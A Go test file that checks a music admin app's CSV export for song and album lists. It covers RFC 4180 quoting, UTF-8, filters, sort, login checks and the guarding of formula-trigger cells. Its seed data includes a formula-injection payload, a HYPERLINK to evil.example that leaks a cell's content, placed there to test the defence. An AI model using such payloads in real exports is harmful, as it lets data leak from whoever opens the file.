package server_test

// The CSV export of the list (CONTRACT, "Lists and forms at any size";
// SECURITY-TESTS.md test 63): every matching row, the list's filters,
// search and sort, RFC 4180 quoting, exact UTF-8, references as labels and
// formula-safe cells.

import (
	"cmp"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"musicadmin/internal/apptest"
)

// exportCatalogue is what the export tests store: albums by name and songs
// in the order they were stored (id order on every backend).
type exportCatalogue struct {
	albums map[string]string // name -> id
	names  map[string]string // id -> name
	songs  []apptest.SongRow
}

// riskyAlbum is an album whose name is a formula, with a comma and quotes.
const riskyAlbum = `=1+1, "Live"`

// seedExport stores songs that need every rule of the export: titles
// starting with each formula trigger (one a real HYPERLINK), commas,
// quotes, line breaks, non-ASCII and emoji, songs with no album and one
// on an album whose name is itself a formula; and plain filler songs, so
// the export spans more than one list page (25 rows).
func seedExport(t *testing.T, app *apptest.App) exportCatalogue {
	t.Helper()
	c := exportCatalogue{albums: map[string]string{}, names: map[string]string{}}
	for _, name := range []string{"Abbey Road", "Let It Be", riskyAlbum} {
		id := app.InsertAlbum(name)
		c.albums[name], c.names[id] = id, name
	}
	abbey, letItBe, risky := c.albums["Abbey Road"], c.albums["Let It Be"], c.albums[riskyAlbum]
	c.songs = []apptest.SongRow{
		{Title: `=HYPERLINK("https://evil.example/?x="&A1,"Click")`, Rating: 2, Album: risky},
		{Title: "-5", Rating: 1},
		{Title: "+1 Plus", Rating: 1, Album: abbey},
		{Title: "@SUM(A1:A9)", Rating: 1},
		{Title: "\tTabbed", Rating: 2},
		{Title: "\rCarriage", Rating: 2, Album: letItBe},
		{Title: "Comma, Song", Rating: 6, Album: abbey},
		{Title: `Say "Hi"`, Rating: 6},
		{Title: "Line one\nLine two", Rating: 6, Album: letItBe},
		{Title: "CRLF one\r\nCRLF two", Rating: 3},
		{Title: "日本語の歌 🎵", Rating: 7, Album: abbey},
		{Title: "Été — ≠ Ünïcödé", Rating: 7},
		{Title: "Mid-song = fine", Rating: 8},
	}
	for i := range 24 {
		s := apptest.SongRow{Title: fmt.Sprintf("Filler %02d", i), Rating: i % 10}
		switch i % 3 {
		case 0:
			s.Album = abbey
		case 1:
			s.Album = letItBe
		}
		c.songs = append(c.songs, s)
	}
	for i, id := range app.InsertSongs(c.songs) {
		c.songs[i].ID = id
	}
	return c
}

// guarded is a cell as the export must write it: a value starting with a
// formula trigger gets a leading quote.
func guarded(s string) string {
	if s != "" && strings.ContainsAny(s[:1], "=+-@\t\r") {
		return "'" + s
	}
	return s
}

// rows returns the export rows of the songs keep picks, ordered by
// compare and then by id (their index), all reversed when desc: the
// list's order on every backend.
func (c exportCatalogue) rows(keep func(apptest.SongRow) bool, compare func(a, b apptest.SongRow) int, desc bool) [][]string {
	idx := []int{}
	for i, s := range c.songs {
		if keep == nil || keep(s) {
			idx = append(idx, i)
		}
	}
	slices.SortStableFunc(idx, func(i, j int) int {
		r := compare(c.songs[i], c.songs[j])
		if r == 0 {
			r = cmp.Compare(i, j)
		}
		if desc {
			r = -r
		}
		return r
	})
	out := [][]string{}
	for _, i := range idx {
		s := c.songs[i]
		out = append(out, []string{guarded(s.Title), strconv.Itoa(s.Rating), guarded(c.names[s.Album])})
	}
	return out
}

func byTitle(a, b apptest.SongRow) int { return strings.Compare(a.Title, b.Title) }

// byRating orders by rating; equal ratings keep id order (rows breaks the
// tie).
func byRating(a, b apptest.SongRow) int { return cmp.Compare(a.Rating, b.Rating) }

// getCSV GETs path, fails unless it is a 200 CSV download, and returns
// the raw body and its records, the header row first.
func getCSV(t *testing.T, c *apptest.Client, path string) (string, [][]string) {
	t.Helper()
	r := c.Get(path)
	r.ExpectStatus(t, "GET "+path, http.StatusOK)
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("%s: Content-Type %q", path, ct)
	}
	rd := csv.NewReader(strings.NewReader(r.Body))
	rd.FieldsPerRecord = -1 // checked below, with a better message
	records, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("%s: not CSV: %v\n%q", path, err, r.Body)
	}
	for i, rec := range records {
		if len(rec) != len(records[0]) {
			t.Fatalf("%s: record %d has %d fields, the header %d: %q", path, i, len(rec), len(records[0]), rec)
		}
	}
	return r.Body, records
}

// TestExportCSV: the song export is a download of every song (more than a
// list page) in the list's default order, a header row of the list's
// column labels, references as their labels (empty for none), each value
// byte for byte, formula triggers guarded, RFC 4180 quoting and line ends.
func TestExportCSV(t *testing.T) {
	apptest.ForEachBackendParallel(t, func(t *testing.T, b apptest.Backend) {
		app := apptest.NewApp(t, b)
		cat := seedExport(t, app)
		c := app.LoggedIn()

		r := c.Get("/songsview/export.csv")
		r.ExpectStatus(t, "export", http.StatusOK)
		if got := r.Header.Get("Content-Disposition"); got != `attachment; filename="songs.csv"` {
			t.Errorf("Content-Disposition %q", got)
		}
		if got := r.Header.Get("Cache-Control"); !strings.Contains(got, "no-store") {
			t.Errorf("Cache-Control %q, want no-store", got)
		}
		if got := r.Header.Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("X-Content-Type-Options %q", got)
		}

		body, records := getCSV(t, c, "/songsview/export.csv")
		if want := []string{"Title", "Rating", "Album"}; !slices.Equal(records[0], want) {
			t.Errorf("header row %q, want the list's labels %q", records[0], want)
		}
		want := cat.rows(nil, byTitle, false)
		if len(want) <= 25 {
			t.Fatalf("the seed has %d songs: not more than one list page", len(want))
		}
		// encoding/csv's reader turns a CRLF inside a quoted field into
		// LF; the raw bytes are checked below.
		for _, w := range want {
			w[0] = strings.ReplaceAll(w[0], "\r\n", "\n")
		}
		if got := records[1:]; !slices.EqualFunc(got, want, slices.Equal) {
			t.Errorf("rows:\n got %q\nwant %q", got, want)
		}

		// The bytes themselves: RFC 4180 line ends and quoting, values as
		// stored (a lone CR, an LF and a CRLF inside a quoted field
		// unchanged), UTF-8 without a byte-order mark.
		if !strings.HasPrefix(body, "Title,Rating,Album\r\n") {
			t.Errorf("body starts %q, want the header row and CRLF (no BOM)", body[:min(len(body), 30)])
		}
		if !strings.HasSuffix(body, "\r\n") {
			t.Errorf("body does not end in CRLF: %q", body[max(0, len(body)-30):])
		}
		for _, line := range []string{
			"\r\n" + `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",2,"'=1+1, ""Live"""` + "\r\n",
			"\r\n'-5,1,\r\n",
			"\r\n'+1 Plus,1,Abbey Road\r\n",
			"\r\n'@SUM(A1:A9),1,\r\n",
			"\r\n'\tTabbed,2,\r\n",
			"\r\n\"'\rCarriage\",2,Let It Be\r\n",
			"\r\n\"Comma, Song\",6,Abbey Road\r\n",
			"\r\n\"Say \"\"Hi\"\"\",6,\r\n",
			"\r\n\"Line one\nLine two\",6,Let It Be\r\n",
			"\r\n\"CRLF one\r\nCRLF two\",3,\r\n",
			"\r\n日本語の歌 🎵,7,Abbey Road\r\n",
			"\r\nÉté — ≠ Ünïcödé,7,\r\n",
			"\r\nMid-song = fine,8,\r\n",
		} {
			if !strings.Contains(body, line) {
				t.Errorf("body lacks the line %q", line)
			}
		}
		if n := strings.Count(body, "Filler "); n != 24 {
			t.Errorf("%d filler songs in the export, want 24", n)
		}

		// The album export: its own labels and file name.
		r = c.Get("/albumview/export.csv")
		r.ExpectStatus(t, "album export", http.StatusOK)
		if got := r.Header.Get("Content-Disposition"); got != `attachment; filename="albums.csv"` {
			t.Errorf("album Content-Disposition %q", got)
		}
		// By name: "=" sorts before letters.
		if want := "Name\r\n\"'=1+1, \"\"Live\"\"\"\r\nAbbey Road\r\nLet It Be\r\n"; r.Body != want {
			t.Errorf("album export %q, want %q", r.Body, want)
		}
	})
}

// TestExportQuery: the export applies the list's filters, search and sort
// as the list does (an ignored filter is ignored here too), and ignores
// page and page_size.
func TestExportQuery(t *testing.T) {
	apptest.ForEachBackendParallel(t, func(t *testing.T, b apptest.Backend) {
		app := apptest.NewApp(t, b)
		cat := seedExport(t, app)
		c := app.LoggedIn()
		abbey := cat.albums["Abbey Road"]
		all := func(apptest.SongRow) bool { return true }
		for _, tc := range []struct {
			query   string
			keep    func(apptest.SongRow) bool
			compare func(a, b apptest.SongRow) int
			desc    bool
		}{
			{"sort=-title", all, byTitle, true},
			{"sort=rating", all, byRating, false},
			{"sort=-rating", all, byRating, true},
			{"rating__gte=6", func(s apptest.SongRow) bool { return s.Rating >= 6 }, byTitle, false},
			{"q=FILLER+1", func(s apptest.SongRow) bool { return strings.HasPrefix(s.Title, "Filler 1") }, byTitle, false},
			{"q=%E6%97%A5%E6%9C%AC", func(s apptest.SongRow) bool { return strings.Contains(s.Title, "日本") }, byTitle, false},
			{"album=" + url.QueryEscape(abbey) + "&sort=-rating", func(s apptest.SongRow) bool { return s.Album == abbey }, byRating, true},
			{"album__empty=true&rating__lt=5&sort=rating", func(s apptest.SongRow) bool { return s.Album == "" && s.Rating < 5 }, byRating, false},
			{"q=no+such+song", func(apptest.SongRow) bool { return false }, byTitle, false},
			// What the list ignores, the export ignores.
			{"page=2&page_size=5", all, byTitle, false},
			{"colour=red&rating__gte=high&sort=album", all, byTitle, false},
		} {
			_, records := getCSV(t, c, "/songsview/export.csv?"+tc.query)
			want := cat.rows(tc.keep, tc.compare, tc.desc)
			for _, w := range want {
				w[0] = strings.ReplaceAll(w[0], "\r\n", "\n")
			}
			if len(records) == 0 || !slices.Equal(records[0], []string{"Title", "Rating", "Album"}) {
				t.Errorf("%s: header %q", tc.query, records)
				continue
			}
			if got := records[1:]; !slices.EqualFunc(got, want, slices.Equal) {
				t.Errorf("%s:\n got %q\nwant %q", tc.query, got, want)
			}
		}

		// The export is the list, every page of it: same rows, same order.
		query := "rating__gte=3&sort=-rating"
		var listed [][]string
		for page := 1; ; page++ {
			rows := c.Get(fmt.Sprintf("/songsview/list/?%s&page_size=10&page=%d", query, page)).Rows()
			listed = append(listed, rows...)
			if len(rows) < 10 {
				break
			}
		}
		_, records := getCSV(t, c, "/songsview/export.csv?"+query)
		exported := records[1:]
		if len(exported) != len(listed) || len(listed) <= 10 {
			t.Fatalf("%s: export has %d rows, the list's pages %d (want equal, over several pages)", query, len(exported), len(listed))
		}
		for i := range listed {
			// The list's cells are trimmed HTML text; none of these
			// values starts with a trigger or ends in white space.
			if got := []string{strings.TrimSpace(exported[i][0]), exported[i][1], exported[i][2]}; !slices.Equal(got, listed[i]) {
				t.Errorf("%s row %d: export %q, list %q", query, i, exported[i], listed[i])
			}
		}
	})
}

// TestExportLink: the list page links to the export of what it shows: its
// filters, search and sort, not its page or page size, nor a filter it
// ignored.
func TestExportLink(t *testing.T) {
	apptest.ForEachBackendParallel(t, func(t *testing.T, b apptest.Backend) {
		app := apptest.NewApp(t, b)
		cat := seedExport(t, app)
		c := app.LoggedIn()
		for _, tc := range []struct{ list, export string }{
			{"/songsview/list/", "/songsview/export.csv?sort=title"},
			{"/songsview/list/?q=filler&rating__gte=2&sort=-rating&page=2&page_size=5&colour=red",
				"/songsview/export.csv?q=filler&rating__gte=2&sort=-rating"},
			{"/albumview/list/?q=road", "/albumview/export.csv?q=road&sort=name"},
		} {
			r := c.Get(tc.list)
			r.ExpectStatus(t, tc.list, http.StatusOK)
			link := r.Doc.Find("a").FilterFunction(func(_ int, s *goquery.Selection) bool {
				return strings.TrimSpace(s.Text()) == "Export CSV"
			})
			href, ok := link.Attr("href")
			if link.Length() != 1 || !ok {
				t.Errorf("%s: %d Export CSV links", tc.list, link.Length())
				continue
			}
			if href != tc.export {
				t.Errorf("%s: Export CSV links to %q, want %q", tc.list, href, tc.export)
			}
		}
		// Following it gives the rows the list filtered.
		r := c.Get("/songsview/list/?q=filler&rating__gte=2&sort=-rating&page=2&page_size=5")
		href, _ := r.Doc.Find("a[download]").Attr("href")
		_, records := getCSV(t, c, href)
		want := cat.rows(func(s apptest.SongRow) bool {
			return strings.HasPrefix(s.Title, "Filler") && s.Rating >= 2
		}, byRating, true)
		if got := records[1:]; !slices.EqualFunc(got, want, slices.Equal) {
			t.Errorf("export through the list's link:\n got %q\nwant %q", got, want)
		}
	})
}

// TestExportAccess: the export needs a login like the list, an unknown view
// has none, HEAD sends the headers and no rows, and nothing is exported
// but the list's columns.
func TestExportAccess(t *testing.T) {
	apptest.ForEachBackendParallel(t, func(t *testing.T, b apptest.Backend) {
		a := apptest.NewApp(t, b, apptest.Strict())
		album := a.InsertAlbum("Private Album")
		a.InsertSong("Private Song", 1, album)
		for _, p := range []string{"/songsview/export.csv", "/albumview/export.csv?q=priv&sort=-name"} {
			r := a.Client().Get(p)
			want := "/login/?next=" + url.QueryEscape(p)
			if r.Status != http.StatusFound || r.Location() != want {
				t.Errorf("anonymous GET %s: %d %q, want 302 to %s", p, r.Status, r.Location(), want)
			}
			if strings.Contains(r.Body, "Private") {
				t.Errorf("anonymous GET %s shows data", p)
			}
		}
		admin := a.LoggedIn()
		for _, p := range []string{"/nosuchview/export.csv", "/songsview/export.json", "/songsview/export.csv/x"} {
			if r := admin.Get(p); r.Status != http.StatusNotFound {
				t.Errorf("GET %s: %d, want 404", p, r.Status)
			}
		}
		// The users' export is the list's columns: no password hash.
		if r := admin.Get("/users/export.csv"); r.Status != http.StatusOK || !strings.Contains(r.Body, "admin") ||
			strings.Contains(r.Body, "$2a$") || strings.Contains(strings.ToLower(r.Body), "password") {
			t.Errorf("GET /users/export.csv: %d %q, want the users without their password hashes", r.Status, r.Body)
		}
		r := admin.Request(http.MethodHead, "/songsview/export.csv", nil)
		if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" || r.Body != "" {
			t.Errorf("HEAD: %d %q %q", r.Status, r.Header.Get("Content-Type"), r.Body)
		}
		r = admin.Get("/songsview/export.csv")
		r.ExpectStatus(t, "export", http.StatusOK)
		if want := "Title,Rating,Album\r\nPrivate Song,1,Private Album\r\n"; r.Body != want {
			t.Errorf("export %q, want %q: the list's columns and nothing else", r.Body, want)
		}
	})
}
